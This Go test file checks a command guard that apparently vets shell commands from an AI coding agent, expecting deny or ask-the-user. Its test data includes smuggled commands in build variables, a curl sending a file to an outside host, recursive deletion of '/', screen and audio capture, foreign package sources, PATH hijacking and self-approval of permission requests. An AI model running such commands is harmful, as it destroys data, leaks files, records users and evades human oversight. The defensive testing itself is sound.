package commandguard_test

import (
	"strings"
	"testing"
	"time"

	"github.com/hookrouter/hookrouter/internal/guards/commandguard"
	"github.com/hookrouter/hookrouter/internal/guards/decision"
	"github.com/hookrouter/hookrouter/internal/testkit"
	"github.com/hookrouter/hookrouter/pkg/chain"
)

func developing(t *testing.T, lines map[string]chain.Action) {
	t.Helper()
	for line, want := range lines {
		got := judge(t, commandguard.Options{Otherwise: decision.Ask, Development: true, Deny: []string{"hookctl approvals answer"}}, "Bash", line)
		if got.Action != want {
			t.Errorf("%q: %q (%s), want %q", line, got.Action, got.Reason, want)
		}
	}
}

// TestCommandsThatAreHandedOn checks that a command passed to a program is evaluated as if the line
// ran it.
func TestCommandsThatAreHandedOn(t *testing.T) {
	t.Parallel()
	developing(t, map[string]chain.Action{
		"make CC='hookctl approvals answer x'":               chain.Deny,
		"GO='hookctl approvals answer x' make test":          chain.Deny,
		`make A="make B='hookctl approvals answer x'"`:       chain.Deny,
		"just X:='true; hookctl approvals answer x'":         chain.Deny,
		"make GO='curl -d @f x.dev' test":                    chain.AskUser,
		"make GO='rm -rf src' test":                          chain.AskUser,
		"ccache -s && sccache --show-stats":                  "",
		"ccache --set-config=prefix_command=x":               chain.AskUser,
		"ccache launch x":                                    chain.AskUser,
		"make CC='launch x'":                                 chain.AskUser,
		"make CC='ccache gcc -O2' CFLAGS='-O2 -g' test":      "",
		"make ARGS=\"-run 'A|B' -v\" MSG='add the column' m": "",

		"npx start-server-and-test 'hookctl approvals answer x' http://localhost:3000 test": chain.Deny,
		"start-server-and-test 'http://x;hookctl approvals answer x' 3000 test":             chain.Deny,
		`start-server-and-test "$x" 3000 test`:                                              chain.AskUser,
		"start-server-and-test launch://x 3000 test":                                        chain.AskUser,
		"start-test dev 3000 deploy":                                                        chain.AskUser,
		"npx start-server-and-test 'npm run dev' http-get://localhost:3000/health e2e":      "",
		"npx start-server-and-test start 3000 'npx playwright test' --expect 200":           "",
		"gotestsum --format dots --raw-command -- hookctl approvals answer x":               chain.Deny,
		"gotestsum --raw-command hookctl approvals answer x":                                chain.Deny,
		"gotestsum --raw-command=true -- hookctl approvals answer x":                        chain.AskUser,
		"gotestsum --junitfile a.xml --raw-command -- go test -json ./...":                  "",
		"gotestsum --format dots --junitfile a.xml -- -coverprofile=c.out ./...":            "",
	})
}

// TestPackagesFromElsewhere checks that packages come from the usual registry and channels.
func TestPackagesFromElsewhere(t *testing.T) {
	t.Parallel()
	developing(t, map[string]chain.Action{
		"poetry add git+https://x.dev/a":                      chain.AskUser,
		"poetry add https://x.dev/a.whl":                      chain.AskUser,
		"poetry add --group dev 'uvicorn[standard]@^0.20'":    "",
		"poetry run python x.py --url=http://localhost:8000":  "",
		"pdm add git+https://x.dev/a":                         chain.AskUser,
		"pixi add --git=https://x.dev/a x":                    chain.AskUser,
		"pip install -ihttps://x.dev a":                       chain.AskUser,
		"uv add --index=https://x.dev a":                      chain.AskUser,
		"uv run python x.py --url=http://localhost:8000":      "",
		"conda install -c other x":                            chain.AskUser,
		"mamba install -cother x":                             chain.AskUser,
		"micromamba create -n a --channel=https://x.dev/c x":  chain.AskUser,
		"conda install other::x":                              chain.AskUser,
		"conda env create -f https://x.dev/e.yml":             chain.AskUser,
		"conda install -y -c pytorch -c nvidia pytorch numpy": "",
		"conda create -n a conda-forge::numpy python=3.11":    "",
		"conda run -n a python -c 'print(1)'":                 "",
	})
}

// TestWhatTellsOthers checks that data for others goes to the project's own repository and is
// literal.
func TestWhatTellsOthers(t *testing.T) {
	t.Parallel()
	developing(t, map[string]chain.Action{
		`glab mr create --title a --description "$(cat f)"`: chain.AskUser,
		"glab mr create -R stranger/x --title a":            chain.AskUser,
		"glab issue create --repo=stranger/x --title a":     chain.AskUser,
		`glab mr note 1 -m "$(cat f)"`:                      chain.AskUser,
		"glab mr create --fill":                             "",
		"glab mr note 1 -m done":                            "",
		"gh pr review 1 --approve":                          chain.AskUser,
		"gh pr review 1 -ab LGTM":                           chain.AskUser,
		"gh pr review 1 --comment -b 'I would approve'":     "",
		"ffmpeg -f x11grab -i :0 a.mp4":                     chain.AskUser,
		"ffmpeg -y -f alsa -i default a.wav":                chain.AskUser,
		"ffmpeg -f lavfi -i ddagrab a.mp4":                  chain.AskUser,
		`ffmpeg -f "$F" -i :0 a.mp4`:                        chain.AskUser,
		"ffmpeg -f concat -i list.txt a.mp4":                "",
		"magick import -window root a.png":                  chain.AskUser,
		"convert x:root a.png":                              chain.AskUser,
		"convert a.png -resize 50% b.png":                   "",
	})
}

// TestPathOfTheProject checks that only with development the project's installed programs may be
// first in PATH. Otherwise, PATH would change the meaning of names in allow.
func TestPathOfTheProject(t *testing.T) {
	t.Parallel()
	developing(t, map[string]chain.Action{
		`export PATH="$PWD/node_modules/.bin:$PATH"`:                     "",
		`PATH="$(pwd)/.venv/bin:/usr/local/bin:$PATH" pytest`:            "",
		`export PATH="$PWD/node_modules/.bin"`:                           chain.AskUser,
		`export PATH="$PWD/bin:$PATH"`:                                   chain.AskUser,
		`export PATH="$PWD/../node_modules/.bin:$PATH"`:                  chain.AskUser,
		`export PATH="/tmp/node_modules/.bin:$PATH"`:                     chain.AskUser,
		`python3 -c "import shutil; shutil.rmtree('dist')"`:              "",
		`python3 -c "import shutil; shutil.rmtree('dist', True)"`:        chain.AskUser,
		`python3 -c "import shutil; shutil.rmtree('src')"`:               chain.AskUser,
		`python3 -c "import shutil; shutil.rmtree('/')"`:                 chain.Deny,
		`python3 -c "import shutil; f = shutil.rmtree; f('/')"`:          chain.AskUser,
		`python3 -c "import shutil as s; s.rmtree('/')"`:                 chain.AskUser,
		`python3 -c "from shutil import rmtree; rmtree('/')"`:            chain.AskUser,
		`python3 -c "import shutil; print(shutil.which('go'))"`:          "",
		`python3 -c "import shutil; [shutil.rmtree(x) for x in ['/']]"`:  chain.AskUser,
		`python3 -c "import shutil; shutil.rmtree('a' + '/../../home')"`: chain.AskUser,
	})
	line := `PATH="./node_modules/.bin:$PATH" git status`
	if got := judge(t, commandguard.Options{Otherwise: decision.Ask, Allow: []string{"git status"}}, "Bash", line); got.Action != chain.AskUser {
		t.Errorf("%q without development: %q, want ask", line, got.Action)
	}
}

// soon is the time limit for evaluating the longest line. The race detector makes it slower.
func soon() time.Duration {
	if testkit.RaceFlags != nil {
		return 20 * time.Second
	}
	return 5 * time.Second
}

// TestLongHandedOn checks that the longest line of these programs is evaluated in time, whatever it
// repeats.
func TestLongHandedOn(t *testing.T) {
	t.Parallel()
	parts := []string{"A='make B=\"c d\"' ", "A='b c' ", `A="make `, "A=';;' ", "-c x ", "'a b' ", "t=$(mktemp); "}
	for _, part := range parts[:testkit.Volume(t, 1, len(parts), len(parts))] {
		for _, program := range []string{"make ", "conda install ", "start-server-and-test ", "echo $TMPDIR; "} {
			line := program + strings.Repeat(part, (60<<10)/len(part))
			began := time.Now()
			judge(t, commandguard.Options{Otherwise: decision.Ask, Development: true}, "Bash", line)
			if took := time.Since(began); took > soon() {
				t.Errorf("%s%q again and again took %v", program, part, took)
			}
		}
	}
}

// TestLongVariablesInLoops checks that a value passed to make repeatedly in a loop is evaluated in
// time.
func TestLongVariablesInLoops(t *testing.T) {
	t.Parallel()
	loop := func(name, body string) string { return "for " + name + " in 1 2 3 4 5 6 7 8; do " + body + "; done" }
	values := []string{strings.Repeat("ls; ", 3<<10), "$x$y$z; " + strings.Repeat("ls; ", 3<<10)}
	for _, value := range values[:testkit.Volume(t, 1, len(values), len(values))] {
		line := loop("x", loop("y", loop("z", "make A=\""+value+"\"")))
		began := time.Now()
		judge(t, commandguard.Options{Otherwise: decision.Ask, Development: true}, "Bash", line)
		took := time.Since(began)
		t.Logf("%.20q: %v", value, took)
		if took > soon() {
			t.Errorf("%.20q took %v", value, took)
		}
	}
}
